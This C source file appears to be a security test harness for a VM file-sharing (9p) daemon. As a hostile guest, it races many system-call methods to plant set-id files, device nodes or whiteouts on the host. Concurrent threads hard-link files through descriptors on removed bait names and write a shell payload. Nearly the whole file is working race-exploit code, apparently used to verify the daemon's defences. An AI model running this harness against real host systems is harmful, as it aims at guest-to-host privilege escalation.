/*
 * A hostile guest's race for a set-id file on the host (issue 25). Usage: setid-race DIR SECONDS [UID]
 *
 * Makes DIR (mode 0777) and races, for SECONDS: one creator thread per method asks for set-id files
 * (mknod, open with O_CREAT, O_TMPFILE made visible by linkat, chmod and fchmod after a plain
 * create, mkdir) or a whiteout, over and over, while linker threads hard-link whatever a creator is
 * making to names of their own and write into it. A daemon that creates a file and only then fixes
 * or removes it loses this race. With UID, the creators run as that guest user and the linkers stay
 * root (credentials are per thread for the raw system calls).
 *
 * Every creator uses a bait name: a file of that name was opened and then removed in the guest, so
 * its open descriptor still names that path on a 9p server, and a link made through it links
 * whatever is at that name on the host right then, in one request. Linkers link through those
 * descriptors (/proc/self/fd and AT_EMPTY_PATH) and by name. Nothing is removed that could be
 * evidence: the host looks for set-id and special files afterwards.
 *
 * Prints "RACE method=NAME tries=N ok=N" per method and "RACE-DONE uid=N plain=N links=N" (plain:
 * plain files the creators made, the linkers' chance). Build: gcc -static -pthread.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_WHITEOUT
#define RENAME_WHITEOUT (1 << 2)
#endif

enum method { MKNOD_SUID, MKNOD_SGID_TYPE0, OPEN_SUID, OPEN_SGID, TMPFILE_SUID, TMPFILE_FCHMOD, OPEN_CHMOD, MKNOD_CHMOD, MKDIR_SGID, WHITEOUT, METHODS };
static const char *const METHOD_NAMES[METHODS] = {
  "mknod-S_IFREG|04755", "mknod-02755", "open-O_CREAT-04755", "open-O_CREAT-02755", "O_TMPFILE-04755+linkat",
  "O_TMPFILE+fchmod-04755+linkat", "open+fchmod/chmod-06755", "mknod+chmod-04755", "mkdir-02775+chmod", "renameat2-RENAME_WHITEOUT",
};
enum { LINKERS = 6 };
static const char PAYLOAD[] = "#!/bin/sh\nid\n";

static atomic_int stop;
static atomic_long tries[METHODS], oks[METHODS], plain, links;
static int bait_fd[METHODS];
static unsigned creator_uid;

static void bait_name(char *out, size_t size, int method) { snprintf(out, size, "b%d", method); }

static void write_payload(int fd) {
  if (write(fd, PAYLOAD, sizeof PAYLOAD - 1) < 0) { /* refused, or gone meanwhile */ }
}

/* Links the file open as `fd` to `name`: through /proc (any user), else AT_EMPTY_PATH (root). */
static int link_fd(int fd, const char *name) {
  char proc[64];
  snprintf(proc, sizeof proc, "/proc/self/fd/%d", fd);
  if (linkat(AT_FDCWD, proc, AT_FDCWD, name, AT_SYMLINK_FOLLOW) == 0) return 0;
  return linkat(fd, "", AT_FDCWD, name, AT_EMPTY_PATH);
}

/* Whether `path` is evidence for the host: set-id, or neither a regular file nor a directory. */
static int suspicious(const char *path) {
  struct stat st;
  return lstat(path, &st) == 0 && ((st.st_mode & 06000) || !(S_ISREG(st.st_mode) || S_ISDIR(st.st_mode)));
}

/* One attempt at `name`: 0 when the call asking for the set-id mode (or the whiteout) succeeded. */
static int attempt(enum method method, const char *name, long n) {
  int fd, result = -1;
  char other[64];
  switch (method) {
    case MKNOD_SUID: return mknod(name, S_IFREG | 04755, 0);
    case MKNOD_SGID_TYPE0: return mknod(name, 02755, 0);
    case OPEN_SUID: case OPEN_SGID:
      if ((fd = open(name, O_CREAT | O_EXCL | O_WRONLY, method == OPEN_SUID ? 04755 : 02755)) < 0) return -1;
      write_payload(fd);
      return close(fd);
    case TMPFILE_SUID: case TMPFILE_FCHMOD:
      if ((fd = open(".", O_TMPFILE | O_RDWR, method == TMPFILE_SUID ? 04755 : 0755)) < 0) return -1;
      write_payload(fd);
      if (method == TMPFILE_SUID || fchmod(fd, 04755) == 0) result = link_fd(fd, name);
      else if (link_fd(fd, name) == 0) atomic_fetch_add(&plain, 1);
      close(fd);
      return result;
    case OPEN_CHMOD:
      if ((fd = open(name, O_CREAT | O_EXCL | O_WRONLY, 0755)) < 0) return -1;
      atomic_fetch_add(&plain, 1);
      write_payload(fd);
      result = fchmod(fd, 06755);
      close(fd);
      return result == 0 ? 0 : chmod(name, 06755);
    case MKNOD_CHMOD:
      if (mknod(name, S_IFREG | 0755, 0) != 0) return -1;
      atomic_fetch_add(&plain, 1);
      return chmod(name, 04755);
    case MKDIR_SGID: /* a name of its own: a directory is no bait */
      snprintf(other, sizeof other, "d%ld", n);
      if (mkdir(other, 02775) != 0) return -1;
      result = chmod(other, 02775);
      if (!suspicious(other)) rmdir(other);
      return result;
    case WHITEOUT:
      snprintf(other, sizeof other, "w%ld", n);
      if ((fd = open(other, O_CREAT | O_EXCL | O_WRONLY, 0644)) < 0) return -1;
      close(fd);
      atomic_fetch_add(&plain, 1);
      result = (int)syscall(SYS_renameat2, AT_FDCWD, other, AT_FDCWD, name, RENAME_WHITEOUT);
      if (!suspicious(other)) unlink(other);
      return result;
    default: return -1;
  }
}

static void *creator(void *arg) {
  enum method method = (enum method)(long)arg;
  char name[64], kept[64];
  if (creator_uid && (syscall(SYS_setgroups, 0, NULL) != 0 || syscall(SYS_setresgid, creator_uid, creator_uid, creator_uid) != 0 ||
                      syscall(SYS_setresuid, creator_uid, creator_uid, creator_uid) != 0)) {
    perror("setresuid");
    exit(1);
  }
  bait_name(name, sizeof name, method);
  for (long n = 0; !atomic_load(&stop); n++) {
    atomic_fetch_add(&tries[method], 1);
    if (attempt(method, name, n) == 0) atomic_fetch_add(&oks[method], 1);
    /* Evidence stays under another name (link: a rename would move the bait's path on a 9p server). */
    snprintf(kept, sizeof kept, "k%d-%ld", method, n);
    if (suspicious(name)) link(name, kept);
    unlink(name);
  }
  return NULL;
}

static void *linker(void *arg) {
  int id = (int)(long)arg;
  char name[64], link_name[64];
  for (long n = 0; !atomic_load(&stop); n++) {
    int method = (int)(n % METHODS);
    snprintf(link_name, sizeof link_name, "l%d-%ld", id, n);
    bait_name(name, sizeof name, method);
    if (link_fd(bait_fd[method], link_name) != 0 && link(name, link_name) != 0) continue;
    atomic_fetch_add(&links, 1);
    int fd = open(link_name, O_WRONLY | O_NOFOLLOW | O_NONBLOCK);
    if (fd >= 0) {
      write_payload(fd);
      close(fd);
    }
  }
  return NULL;
}

/* The bait for each creator: its name opened, kept alive by an anchor link, and removed. */
static void lay_baits(void) {
  char name[64], anchor[64];
  for (int m = 0; m < METHODS; m++) {
    bait_name(name, sizeof name, m);
    snprintf(anchor, sizeof anchor, "a%d", m);
    int fd = open(name, O_CREAT | O_EXCL | O_RDWR, 0644);
    if (fd < 0 || link(name, anchor) != 0 || unlink(name) != 0) {
      perror(name);
      exit(1);
    }
    bait_fd[m] = fd;
  }
}

int main(int argc, char **argv) {
  if (argc < 3) {
    fprintf(stderr, "usage: setid-race DIR SECONDS [UID]\n");
    return 2;
  }
  umask(0);
  if (mkdir(argv[1], 0777) != 0 || chmod(argv[1], 0777) != 0 || chdir(argv[1]) != 0) {
    perror(argv[1]);
    return 1;
  }
  creator_uid = argc > 3 ? (unsigned)atoi(argv[3]) : 0;
  lay_baits();
  pthread_t threads[METHODS + LINKERS];
  for (long i = 0; i < METHODS + LINKERS; i++) pthread_create(&threads[i], NULL, i < METHODS ? creator : linker, (void *)(i < METHODS ? i : i - METHODS));
  sleep((unsigned)atoi(argv[2]));
  atomic_store(&stop, 1);
  for (int i = 0; i < METHODS + LINKERS; i++) pthread_join(threads[i], NULL);
  for (int m = 0; m < METHODS; m++) printf("RACE method=%s tries=%ld ok=%ld\n", METHOD_NAMES[m], atomic_load(&tries[m]), atomic_load(&oks[m]));
  printf("RACE-DONE uid=%u plain=%ld links=%ld\n", creator_uid, atomic_load(&plain), atomic_load(&links));
  return 0;
}
